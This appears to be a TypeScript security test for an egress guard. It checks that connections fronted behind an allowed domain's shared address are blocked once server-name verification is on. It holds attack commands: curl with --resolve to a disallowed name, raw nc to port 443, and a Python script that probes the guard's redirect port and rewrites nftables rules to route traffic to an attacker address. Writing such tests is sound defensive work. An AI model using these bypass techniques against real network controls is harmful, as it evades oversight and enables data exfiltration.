/** B21: another name behind an address that an allowed name shares with it. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import { createInternet, type Internet } from "../../support/internet/internet.ts";
import { findObstacle, toPython } from "./support/attack-scene.ts";
import { type GuardedPod, type GuardedRun, toGuardedPod, toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
const SHARED = { ipv4: "198.51.100.30", ipv6: "2001:db8:1::30" } as const;

describe.skipIf(obstacle !== "")(
  `a name that shares the address of an allowed one${obstacle}`,
  () => {
    let internet: Internet;
    let pod: GuardedPod;
    let off: GuardedRun;
    let verify: GuardedRun;
    beforeAll(async () => {
      internet = await createInternet();
      pod = toGuardedPod(internet, await internet.pod());
      const ports = { 443: "https", 80: "http" } as const;
      await internet.site("github.test", { ...SHARED, ports, aliases: ["evil.test"] });
      const policy = JSON.parse(toPolicy({ allow: ["github.test"] }));
      off = await pod.guarded(attack(pod.caFile), { policy: JSON.stringify(policy) });
      policy.egress.sni = "verify";
      verify = await pod.guarded(attack(pod.caFile), { policy: JSON.stringify(policy) });
    });
    afterAll(async () => internet[Symbol.asyncDispose]());

    test("is reached where server names are not checked", async () => {
      expect(off.stdout).toBe("github.test GET /before\ngithub.test GET /fronted\n");
      expect(off.visits.map(({ serverName }) => serverName)).toEqual([
        "github.test",
        "evil.test",
        undefined,
      ]);
    });

    test("is cut off where they are", () => {
      expect(verify.stdout).toBe("github.test GET /before\n");
      expect(verify.visits.map(({ serverName }) => serverName)).toEqual(["github.test"]);
      expect(verify.stderr).toContain("alert access denied");
      const blocked = verify.report.connections.filter(({ verdict }) => verdict === "blocked");
      expect(
        blocked.map(({ destination, rule }) => [destination.domain, destination.ip, rule]),
      ).toEqual([
        ["evil.test", SHARED.ipv4, "sni: default"],
        ["github.test", SHARED.ipv4, "sni: the hello has no server name"],
        ["github.test", SHARED.ipv4, "sni: no TLS"],
      ]);
      const programs = blocked.map(
        ({ processId }) => verify.report.processes.find(({ id }) => id === processId)?.args[0],
      );
      expect(programs).toEqual(["curl", "curl", "nc"]);
    });

    test("is not reached, nor is anybody, through the guard's own check", async () => {
      const policy = JSON.parse(toPolicy({ allow: ["github.test"], "network-admin": "keep" }));
      policy.egress.sni = "verify";
      const run = await pod.guarded(toPython(THROUGH_THE_CHECK), {
        policy: JSON.stringify(policy),
      });

      expect(run.stdout).not.toContain("answered");
      expect(run.stdout.trim().split("\n").length).toBeGreaterThan(4);
      expect(run.escaped.map(({ destination }) => destination.ip)).not.toContain(ATTACKER.ipv4);
      expect(run.visits).toEqual([]);
      const blocked = run.report.connections.filter(({ verdict }) => verdict === "blocked");
      expect(blocked.map(({ rule }) => rule)).toContain("sni: no allowed name has this address");
    });

    test("is not reached without a server name, or by what is no TLS, where they are checked", () => {
      expect(verify.visits.map(({ said }) => said)).toEqual(["GET /before"]);
    });
  },
);

/** To the address that the allowed name has opened: the other name, no name, and no TLS. */
function attack(caFile: string): string {
  const curl = `curl -4 -sS -m 3 --cacert ${caFile}`;
  return [
    `${curl} https://github.test/before`,
    `${curl} --resolve evil.test:443:${SHARED.ipv4} https://evil.test/fronted`,
    `curl -4 -skS -m 3 https://${SHARED.ipv4}/nameless >nameless 2>&1`,
    `printf 'GET /plain HTTP/1.0\\r\\n\\r\\n' | nc -w 1 ${SHARED.ipv4} 443 >plain`,
    "true",
  ].join("\n");
}

/**
 * The check connects on from outside of the command's control group. So a job may want it to connect to where it should
 * not: by coming to its port itself, or by leading a connection to somebody else there, under a name that is allowed.
 */
const THROUGH_THE_CHECK = `
import re, socket, ssl, subprocess
socket.getaddrinfo("github.test", 443)
ruleset = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
ports = {int(port) for line in ruleset.splitlines() if "dport 443" in line or "443 ip" in line for port in re.findall("redirect to :([0-9]+)", line)}
ports |= {int(port) for port in re.findall("redirect to :([0-9]+)", ruleset)}
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def attempt(title, ip, port, name="github.test"):
    try:
        with socket.create_connection((ip, port), timeout=2) as s, context.wrap_socket(s, server_hostname=name) as t:
            t.send(b"GET /stolen HTTP/1.0\\r\\n\\r\\n"); print(title, "answered", t.recv(99))
    except OSError as error: print(title, type(error).__name__)
for port in ports:
    for ip in ("127.0.0.1", "::1", "127.0.0.2"): attempt("its port", ip, port)
for port in ports:
    subprocess.run(["nft", "-f", "-"], text=True, input="""
table ip lead {
 chain output {
  type nat hook output priority -120
  ip daddr ${ATTACKER.ipv4} tcp dport 443 redirect to :%d
 }
}
""" % port)
    attempt("led", "${ATTACKER.ipv4}", 443)
    subprocess.run(["nft", "delete", "table", "ip", "lead"])
`;
